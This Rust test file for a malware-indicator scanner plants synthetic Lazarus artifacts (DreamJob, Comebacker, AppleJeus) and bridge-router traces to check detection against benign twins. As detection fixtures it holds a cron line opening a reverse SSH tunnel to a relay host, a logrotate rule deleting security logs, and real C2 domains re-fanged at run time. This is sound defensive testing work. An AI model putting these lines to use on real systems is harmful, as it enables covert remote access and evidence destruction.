//! The Lazarus indicator lists beyond ThreatNeedle (DreamJob, Comebacker, AppleJeus) and the
//! bridge-router rules, end to end with the embedded pack: a planted Windows, macOS or Linux tree
//! with the published artifacts gets each one flagged by the indicator written for it, and the
//! genuine files of similar names next to them are not. C2 values stay defanged in this file and
//! are re-fanged at run time; indicator names are assembled from pieces where a whole one would
//! make this source a match itself.

mod util;

use serde_json::{Value, json};
use util::macho::{MachoCpu, MachoSpec, build_macho, build_universal};
use util::test_tools::{self, available, python_modules};
use util::{Host, Run, needle};

fn scan(host: &Host) -> Run {
    let root = host.root().to_str().expect("temp dirs are UTF-8");
    let run = needle(["scan", "--format", "jsonl", "-q", root]);
    assert!(run.code == 0 || run.code == 1, "{}", run.stderr);
    assert_eq!(run.summary()["errors"], 0, "{}", run.stdout);
    run
}

fn refang(value: &str) -> String {
    value.replacen("hxxp", "http", 1).replace("[.]", ".")
}

/// Reason ids of the finding for the file at `relative` (empty: not flagged).
fn ids_on(run: &Run, relative: &str) -> Vec<String> {
    let suffix = format!("/{relative}");
    run.of_type("finding")
        .iter()
        .filter(|f| f["path"].as_str().is_some_and(|p| p.ends_with(&suffix)))
        .flat_map(|f| {
            f["reasons"]
                .as_array()
                .expect("reasons")
                .iter()
                .filter_map(|r| r["id"].as_str().map(str::to_string))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Plants every `(path, indicator)` and checks each path is reported with that indicator, and
/// that nothing else in the tree (the benign twins) is.
#[track_caller]
fn assert_each_planted_is_flagged(host: &Host, planted: &[(String, String)], benign: &[&str]) {
    for (index, (path, _)) in planted.iter().enumerate() {
        host.write(path, format!("synthetic stand-in {index}").as_bytes());
    }
    for path in benign {
        host.write(path, b"benign");
    }
    let run = scan(host);
    for (path, indicator) in planted {
        let ids = ids_on(&run, path);
        assert!(ids.contains(indicator), "{path}: {ids:?}");
    }
    for path in benign {
        assert!(ids_on(&run, path).is_empty(), "{path} must not be flagged");
    }
    assert_eq!(
        run.of_type("finding").len(),
        planted.len(),
        "only the planted artifacts are flagged:\n{}",
        run.stdout
    );
}

fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(path, pattern)| (path.to_string(), pattern.to_string()))
        .collect()
}

#[test]
fn dreamjob_and_comebacker_windows_paths_are_flagged_by_their_filename_iocs() {
    let host = Host::new();
    let profile = "Users/engineer/AppData";
    let dreamjob_lnk = ["WindowsUpdate", "Conf.lnk"].concat();
    let mut planted = pairs(&[
        (
            "Users/engineer/Documents/Lockheed_Martin_JobOpportunities.docx",
            r"\\Lockheed_Martin_JobOpportunities\.docx$",
        ),
        (
            "Users/engineer/Downloads/Salary_Lockheed_Martin_job_opportunities_confidential.doc",
            r"\\Salary_Lockheed_Martin_job_opportunities_confidential\.doc$",
        ),
        (
            "Intel/IntelR.lor",
            r"\\Intel\\(IntelR\.lor|IntelV\.cgi|crtutl\.exe)$",
        ),
        (
            "NVIDIA/nve.cgr",
            r"\\NVIDIA\\(nv[cde]\.exe|nve\.(cgr|lom|cgt|loe|cgy|lop|cgb)|ctr?utl\.exe|NvDaemon\.exe)$",
        ),
        (
            "NVidia/NvDaemon.exe",
            r"\\NVIDIA\\(nv[cde]\.exe|nve\.(cgr|lom|cgt|loe|cgy|lop|cgb)|ctr?utl\.exe|NvDaemon\.exe)$",
        ),
        (
            "ProgramData/Mozilla/fx.rmb",
            r"\\ProgramData\\Mozilla\\fx\.rmb$",
        ),
        (
            "ProgramData/DellTPad/DellTPadRepair.exe",
            r"\\ProgramData\\DellTPad\\(ApMsgApp|DellTPadRepair|DellTPadMobile)\.exe$",
        ),
        (
            "ProgramData/DVDStudio/DVDTools.exe",
            r"\\ProgramData\\DVDStudio\\(DVDTools|DVDStudioSync)\.exe$",
        ),
        (
            "ProgramData/Oracle/Java/mapistub.dll",
            r"\\ProgramData\\Oracle\\Java\\mapistub\.dll$",
        ),
        (
            "ProgramShared/mscoree.dll",
            r"\\ProgramShared\\mscoree\.dll$",
        ),
        (
            "ProgramData/Adobe/ARM/HID.dll",
            r"\\ProgramData\\Adobe\\ARM\\HID\.dll$",
        ),
        ("Windows/System32/grpedit.dat", r"\\System32\\grpedit\.dat$"),
        (
            "ProgramData/PTC/colorui.dll",
            r"\\ProgramData\\PTC\\(colorcpl\.exe|colorui\.dll)$",
        ),
        (
            "Windows/Vss/WFS.exe",
            r"\\Windows\\(Vss|security)\\(WFS\.exe|credui\.dll)$",
        ),
        ("PublicCache/msdxm.ocx", r"\\PublicCache\\msdxm\.ocx$"),
        (
            "ProgramData/USOShared/uso.bin",
            r"\\ProgramData\\USOShared\\uso\.bin$",
        ),
        (
            "ProgramData/VMware/vmnat-update.bin",
            r"\\ProgramData\\VMware\\vmnat-update\.bin$",
        ),
        (
            "ProgramData/VirtualBox/update.bin",
            r"\\ProgramData\\VirtualBox\\update\.bin$",
        ),
        (
            "Windows/System32/Ntmssvc.sys",
            r"\\System32\\(Irmon|LogonHours|Ntmssvc)\.sys$",
        ),
        (
            "Windows/Temp/Silverlight/wmpd.exe",
            r"\\Windows\\Temp\\Silverlight\\wmpd\.exe$",
        ),
        ("Recovery/msn.exe", r"\\Recovery\\msn\.exe$"),
        (
            "Windows/System32/uploadmgrsvc.dll",
            r"\\System32\\uploadmgrsvc\.dll$",
        ),
    ]);
    for (path, pattern) in [
        (
            format!(
                "{profile}/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/{dreamjob_lnk}"
            ),
            r"\\Start Menu\\Programs\\Startup\\WindowsUpdateConf\.lnk$",
        ),
        (
            format!("{profile}/Local/Microsoft/Windows/wuaueng.dll"),
            r"\\(Users\\[^\\]+\\AppData|ProgramData|Windows\\Temp)\\(.*\\)?wuaueng\.dll$",
        ),
        (
            format!("{profile}/Local/Temp/~pwshld3.dat"),
            r"\\AppData\\Local\\Temp\\~pwshld3\.dat$",
        ),
        (
            format!("{profile}/Local/IconCache.db7"),
            r"\\AppData\\Local\\IconCache\.db7$",
        ),
        (
            format!("{profile}/Local/Microsoft/OneDrive/oneDriveSync.exe"),
            r"\\AppData\\Local\\Microsoft\\OneDrive\\oneDriveSync\.exe$",
        ),
        (
            format!("{profile}/Local/Temp/7zOC35416EE/Quiz1.exe"),
            r"\\Temp\\7zO[0-9A-F]{8}\\Quiz[12]\.exe$",
        ),
    ] {
        planted.push((path, pattern.to_string()));
    }
    // The genuine files of the same or similar names, where Windows and their vendors put them.
    let benign = [
        "Windows/System32/wuaueng.dll",
        "Windows/SysWOW64/wuaueng.dll",
        "Users/engineer/AppData/Local/Microsoft/OneDrive/OneDrive.exe",
        "Users/engineer/AppData/Local/IconCache.db",
        "Users/engineer/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Send to OneNote.lnk",
        "NVIDIA/DisplayDriver/552.44/setup.exe",
        "Intel/Logs/IntelGFX.log",
        "Program Files/DellTPad/ApMsgApp.exe",
        "ProgramData/Adobe/ARM/AdobeARM.exe",
        "ProgramData/USOShared/Logs/UpdateSessionOrchestration.001.etl",
        "Windows/System32/colorcpl.exe",
        "Windows/System32/credui.dll",
        "Windows/System32/mscoree.dll",
        "Windows/System32/Irmon.dll",
    ];
    assert_each_planted_is_flagged(&host, &planted, &benign);
}

/// A launchd job as macOS writes it (XML property list).
fn launchd_job(label: &str, arguments: &[&str]) -> Vec<u8> {
    let arguments: String = arguments
        .iter()
        .map(|a| format!("<string>{a}</string>"))
        .collect();
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
<key>Label</key><string>{label}</string>
<key>ProgramArguments</key><array>{arguments}</array>
<key>RunAtLoad</key><true/>
</dict></plist>"#
    )
    .into_bytes()
}

/// A thin x86-64 Mach-O executable with `strings` in its `__cstring` section.
fn macho_with(strings: &str) -> Vec<u8> {
    build_macho(&MachoSpec {
        strings: format!("{strings}\0").into_bytes(),
        ..MachoSpec::default()
    })
}

/// A macOS tree after the AppleJeus installers ran: the JMT Trading and Union Crypto
/// LaunchDaemons starting their updaters (Mach-O, holding their C2 URLs), Celas Trade Pro's
/// LaunchDaemon and its universal application binary, a CoinGoTrade updater; next to them the
/// LaunchDaemons of ordinary software and their programs.
#[test]
fn applejeus_macos_tree_is_flagged_and_ordinary_launch_daemons_are_not() {
    let host = Host::new();
    let jmt = ["org.jmt", "trading"].concat();
    let union = ["vip.union", "crypto"].concat();
    let celas = ["com.celas", "tradepro"].concat();
    let crash_reporter = "/Library/JMTTrader/CrashReporter";
    let union_updater = "/Library/UnionCrypto/unioncryptoupdater";
    let celas_app = "/Applications/CelasTradePro.app/Contents/MacOS/CelasTradePro";
    host.write(
        format!("Library/LaunchDaemons/{jmt}.plist"),
        &launchd_job(&jmt, &[crash_reporter, "Maintain"]),
    );
    host.write(
        &crash_reporter[1..],
        &macho_with(&refang("hxxps://beastgoc[.]com/grepmonux.php")),
    );
    host.write(
        format!("Library/LaunchDaemons/{union}.plist"),
        &launchd_job(&union, &[union_updater]),
    );
    host.write(
        &union_updater[1..],
        &macho_with(&refang("hxxps://unioncrypto[.]vip/update")),
    );
    host.write(
        format!("Library/LaunchDaemons/{celas}.plist"),
        &launchd_job(&celas, &[celas_app, "CheckUpdate"]),
    );
    host.write(
        &celas_app[1..],
        &build_universal(&[
            (MachoCpu::X86_64, build_macho(&MachoSpec::default())),
            (
                MachoCpu::Arm64,
                build_macho(&MachoSpec {
                    cpu: MachoCpu::Arm64,
                    ..MachoSpec::default()
                }),
            ),
        ]),
    );
    host.write(
        "Library/CoinGoTrade/CoinGoTradeUpgradeDaemon",
        &macho_with("CheckUpdate"),
    );
    // Ordinary software: LaunchDaemons and their (unflagged) programs.
    let benign_programs = [
        "Library/Google/GoogleSoftwareUpdate/GoogleSoftwareUpdate.bundle/Contents/Resources/GoogleSoftwareUpdateDaemon",
        "Library/PrivilegedHelperTools/com.microsoft.autoupdate.helper",
        "opt/local/bin/rsync",
        "Applications/Safari.app/Contents/MacOS/Safari",
    ];
    for program in benign_programs {
        host.write(program, &macho_with("ordinary program"));
    }
    for (label, program) in [
        ("com.google.keystone.daemon", benign_programs[0]),
        ("com.microsoft.autoupdate.helper", benign_programs[1]),
        ("org.macports.rsyncd", benign_programs[2]),
    ] {
        host.write(
            format!("Library/LaunchDaemons/{label}.plist"),
            &launchd_job(label, &[&format!("/{program}"), "--daemon"]),
        );
    }
    let run = scan(&host);

    for (path, indicator) in [
        (
            format!("Library/LaunchDaemons/{jmt}.plist"),
            r"/Library/LaunchDaemons/\.?org\.jmttrading\.plist$",
        ),
        (
            crash_reporter[1..].to_string(),
            r"/Library/JMTTrader/\.?CrashReporter$",
        ),
        (crash_reporter[1..].to_string(), "beastgoc.com"),
        (
            format!("Library/LaunchDaemons/{union}.plist"),
            r"/Library/LaunchDaemons/\.?vip\.unioncrypto\.plist$",
        ),
        (
            union_updater[1..].to_string(),
            r"/Library/UnionCrypto/\.?unioncryptoupdater$",
        ),
        (union_updater[1..].to_string(), "unioncrypto.vip"),
        (
            format!("Library/LaunchDaemons/{celas}.plist"),
            r"/Library/LaunchDaemons/\.?com\.celastradepro\.plist$",
        ),
        (
            celas_app[1..].to_string(),
            r"/(CelasTradePro|JMTTrader|UnionCryptoTrader)\.app/Contents/MacOS/[^/]+$",
        ),
        (
            "Library/CoinGoTrade/CoinGoTradeUpgradeDaemon".to_string(),
            r"[\\/](CoinGoTradeUpgradeDaemon|CoinGoTradeUpdate\.exe|kupay_upgrade|KupayUpgrade\.exe|kupayupdate_stage2|dorusio_upgrade|DorusioUpgrade\.exe|Ants2WhaleHelper)$",
        ),
    ] {
        let ids = ids_on(&run, &path);
        assert!(ids.iter().any(|id| id == indicator), "{path}: {ids:?}");
    }
    // The LaunchDaemons are autostarts that start flagged programs.
    for (plist, program) in [
        (format!("{jmt}.plist"), crash_reporter),
        (format!("{union}.plist"), union_updater),
    ] {
        let daemon = autostart(&run, &plist);
        assert_eq!(daemon["kind"], "launch_daemon", "{daemon}");
        assert_eq!(daemon["program"], program, "{daemon}");
        assert_eq!(daemon["level"], "alert", "{daemon}");
    }
    // Nothing of the ordinary software is flagged, as a file or as an autostart.
    for program in benign_programs {
        assert!(ids_on(&run, program).is_empty(), "{program}");
    }
    for label in [
        "com.google.keystone.daemon",
        "com.microsoft.autoupdate.helper",
        "org.macports.rsyncd",
    ] {
        let plist = format!("{label}.plist");
        assert!(
            ids_on(&run, &format!("LaunchDaemons/{plist}")).is_empty(),
            "{plist}"
        );
        let daemon = autostart(&run, &plist);
        assert!(daemon.get("level").is_none(), "{daemon}");
    }
    assert_eq!(run.summary()["verdict"], "compromised");
}

/// The autostart record whose path ends with `suffix`.
fn autostart(run: &Run, suffix: &str) -> Value {
    let found: Vec<Value> = run
        .of_type("autostart")
        .into_iter()
        .filter(|a| a["path"].as_str().is_some_and(|p| p.ends_with(suffix)))
        .collect();
    assert_eq!(found.len(), 1, "autostart {suffix}:\n{}", run.stdout);
    found.into_iter().next().expect("checked")
}

#[test]
fn lazarus_c2_names_inside_files_are_found_and_lookalikes_are_not() {
    let host = Host::new();
    // (file, content, the reported indicator): one from each new C2 list, ASCII and UTF-16.
    let cases = [
        (
            "a/beacon.cfg",
            "codevexillium[.]org",
            "comebacker-c2-iocs.txt",
        ),
        ("a/updater.ini", "celasllc[.]com", "applejeus-c2-iocs.txt"),
        (
            "a/stage.bin",
            "hxxps://chuta[.]jp/jtool/dic[.]css",
            "dreamjob-c2-iocs.txt",
        ),
        ("a/sysnetd.conf", "23.254.211[.]230", "dreamjob-c2-iocs.txt"),
    ];
    for (path, value, _) in &cases {
        let value = refang(value);
        host.write(path, format!("server={value}\n").as_bytes());
        let wide: Vec<u8> = format!("u={value};")
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        host.write(format!("{path}.wide"), &wide);
    }
    let near = [
        ("b/one.cfg", refang("server=notcodevexillium[.]org\n")),
        ("b/two.cfg", refang("server=celasllc[.]com.example.test\n")),
        (
            "b/three.cfg",
            refang("u=hxxps://chuta[.]jp/jtool/other[.]css\n"),
        ),
        ("b/four.cfg", refang("addr=23.254.211[.]2301\n")),
    ];
    for (path, content) in &near {
        host.write(path, content.as_bytes());
    }
    let run = scan(&host);
    for (path, value, list) in &cases {
        for file in [path.to_string(), format!("{path}.wide")] {
            let finding = run.finding(&file);
            let c2: Vec<&Value> = finding["reasons"]
                .as_array()
                .expect("reasons")
                .iter()
                .filter(|r| r["kind"] == "c2")
                .collect();
            assert_eq!(c2.len(), 1, "{file}: {finding}");
            assert_eq!(c2[0]["id"], refang(value), "{file}");
            assert!(
                c2[0]["source"]
                    .as_str()
                    .is_some_and(|s| s.starts_with(&format!("embedded:iocs/{list}:"))),
                "{file}: {}",
                c2[0]
            );
        }
    }
    for (path, _) in &near {
        assert!(!run.has_finding(path), "{path}: {}", run.stdout);
    }
}

#[test]
fn bridge_router_host_names_the_pattern_as_notices_and_warnings() {
    let host = Host::new();
    let tunnel = [
        "@reboot root autossh -M 0 -f -N -R 2222:",
        "localhost:22 relay@203.0.113.5\n",
    ]
    .concat();
    let planted = [
        (
            "etc/httpd/conf.d/segments.conf",
            b"Listen 8080\nProxyRequests On\nProxyPass /plc http://10.40.1.20/\n".to_vec(),
        ),
        (
            "etc/logrotate.d/syslog",
            b"/var/log/messages /var/log/secure {\n    daily\n    rotate 1\n    postrotate\n        rm -f /var/log/messages.1 /var/log/secure.1\n    endscript\n}\n"
                .to_vec(),
        ),
        ("etc/webmin/miniserv.users", b"root:x:0\n".to_vec()),
        (
            "var/webmin/miniserv.log",
            b"10.10.0.7 - root [21/May/2020:10:02:11 +0000] \"GET /net/list_routes.cgi HTTP/1.1\" 200 51\n"
                .to_vec(),
        ),
        ("etc/cron.d/tunnel", tunnel.into_bytes()),
    ];
    // A router's ordinary configuration: the distribution's proxy module defaults, a log
    // rotation that reloads the daemon, a webmin user list without root.
    let benign = [
        (
            "etc/httpd/conf.modules.d/00-proxy.conf",
            b"LoadModule proxy_module modules/mod_proxy.so\n#ProxyRequests On\n".to_vec(),
        ),
        (
            "etc/logrotate.d/httpd",
            b"/var/log/httpd/*log {\n    missingok\n    notifempty\n    sharedscripts\n    delaycompress\n    postrotate\n        /bin/systemctl reload httpd.service > /dev/null 2>/dev/null || true\n    endscript\n}\n"
                .to_vec(),
        ),
        ("etc/ssh/sshd_config", b"PermitRootLogin no\nAllowTcpForwarding no\n".to_vec()),
    ];
    for (path, data) in planted.iter().chain(benign.iter()) {
        host.write(path, data);
    }
    let run = scan(&host);
    for (path, _) in &planted {
        let ids = ids_on(&run, path);
        assert!(
            ids.iter().any(|id| id.starts_with("Bridge_Router_")),
            "{path}: {ids:?}"
        );
        let level = run.finding(path)["level"].clone();
        assert!(level == "notice" || level == "warning", "{path}: {level}");
    }
    for (path, _) in &benign {
        assert!(!run.has_finding(path), "{path}: {}", run.stdout);
    }
    assert_eq!(run.summary()["verdict"], "suspicious");
}

/// The DreamJob Startup shortcut as Windows writes it (pylnk3): its arguments are read by the
/// rule, its name by the filename IOC.
#[test]
fn dreamjob_startup_shortcut_is_flagged_by_name_and_by_arguments() {
    if !available(&["pylnk3"]) {
        return;
    }
    let host = Host::new();
    let startup = "Users/engineer/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup";
    let make = |name: &str, arguments: &str| {
        let path = host.path(&format!("{startup}/{name}"));
        std::fs::create_dir_all(path.parent().expect("parent")).expect("startup folder");
        test_tools::run(
            "pylnk3",
            &[
                "c",
                &format!(r"C:\Windows\System32\{}", ["wua", "uclt.exe"].concat()),
                path.to_str().expect("UTF-8"),
                "-a",
                arguments,
            ],
            &[0],
        );
    };
    let arguments = |dll: &str| {
        format!(
            "{} {dll} {}",
            ["/UpdateDeployment", "Provider"].concat(),
            ["/RunHandler", "ComServer"].concat()
        )
    };
    let lnk = ["WindowsUpdate", "Conf.lnk"].concat();
    make(
        &lnk,
        &arguments(r"C:\Users\engineer\AppData\Local\Microsoft\Windows\wuaueng.dll"),
    );
    make(
        "Updater.lnk",
        &arguments(r"C:\ProgramData\Intel\helper.dll"),
    );
    make("Backup.lnk", "/detectnow");
    let run = scan(&host);
    let dreamjob = ids_on(&run, &format!("Startup/{lnk}"));
    assert!(
        dreamjob.contains(&"DreamJob_Wuauclt_Loads_Wuaueng_Dll".to_string()),
        "{dreamjob:?}"
    );
    assert!(
        dreamjob.contains(&r"\\Start Menu\\Programs\\Startup\\WindowsUpdateConf\.lnk$".to_string()),
        "{dreamjob:?}"
    );
    assert!(
        ids_on(&run, "Startup/Updater.lnk")
            .contains(&"DreamJob_Wuauclt_Dll_Proxy_Execution".to_string()),
        "{}",
        run.stdout
    );
    assert!(
        !ids_on(&run, "Startup/Backup.lnk")
            .iter()
            .any(|id| id.starts_with("DreamJob")),
        "{}",
        run.stdout
    );
}

/// Writes a hive with hivex from a JSON spec (tests/tools/make_hive.py).
fn hive(host: &Host, relative: &str, spec: Value) {
    let path = host.path(relative);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("hive directory");
    let spec_path = host.path(&format!("{relative}.spec.json"));
    std::fs::write(&spec_path, spec.to_string()).expect("write the spec");
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/tools/make_hive.py");
    test_tools::run(
        "python3",
        &[
            script,
            path.to_str().expect("UTF-8"),
            spec_path.to_str().expect("UTF-8"),
        ],
        &[0],
    );
    std::fs::remove_file(&spec_path).expect("remove the spec");
}

#[test]
fn comebacker_registry_keys_and_run_value_are_found_in_hives() {
    if !available(&["python3"]) || !python_modules(&["hivex"]) {
        return;
    }
    let host = Host::new();
    hive(
        &host,
        "Windows/System32/config/SOFTWARE",
        json!({
            "name": r"\SystemRoot\System32\Config\SOFTWARE",
            "keys": {
                r"Microsoft\Windows\CurrentVersion\DriverConfig": {"values": {
                    "Data": ["binary", "8f3a5c0011d2e4b7"]}},
                r"Microsoft\Windows\CurrentVersion\Run": {"values": {
                    "SecurityHealth": ["expand_sz", r"%windir%\system32\SecurityHealthSystray.exe"]}}
            }
        }),
    );
    hive(
        &host,
        "Users/engineer/NTUSER.DAT",
        json!({
            "name": r"\??\C:\Users\engineer\ntuser.dat",
            "keys": {
                r"Software\Microsoft\Windows\CurrentVersion\Run": {"values": {
                    "SSL Update": ["sz", r"C:\Windows\System32\rundll32.exe C:\ProgramData\USOShared\uso.bin,Start"],
                    "SSL Updater": ["sz", r"C:\Program Files\Vendor\updater.exe"]}}
            }
        }),
    );
    let run = scan(&host);
    let registry: Vec<(String, String)> = run
        .of_type("finding")
        .iter()
        .flat_map(|f| {
            let path = f["path"].as_str().unwrap_or_default().to_string();
            f["reasons"]
                .as_array()
                .expect("reasons")
                .iter()
                .filter(|r| r["kind"] == "registry")
                .map(move |r| {
                    (
                        path.clone(),
                        r["id"].as_str().unwrap_or_default().to_string(),
                    )
                })
                .collect::<Vec<_>>()
        })
        .collect();
    let ids: Vec<&str> = registry.iter().map(|(_, id)| id.as_str()).collect();
    assert!(
        ids.contains(&r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\DriverConfig"),
        "{registry:?}"
    );
    assert!(
        ids.contains(&r"HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SSL Update"),
        "{registry:?}"
    );
    assert_eq!(
        registry.len(),
        2,
        "the SSL Updater value is not an indicator: {registry:?}"
    );
}

#[test]
fn embedded_pack_counts_the_new_lists() {
    let run = needle(["iocs", "check"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    for count in ["38 SHA-1", "98 SHA-256", "5 registry"] {
        assert!(run.stdout.contains(count), "{count}: {}", run.stdout);
    }
    assert!(run.stdout.ends_with("0 problems\n"), "{}", run.stdout);
}
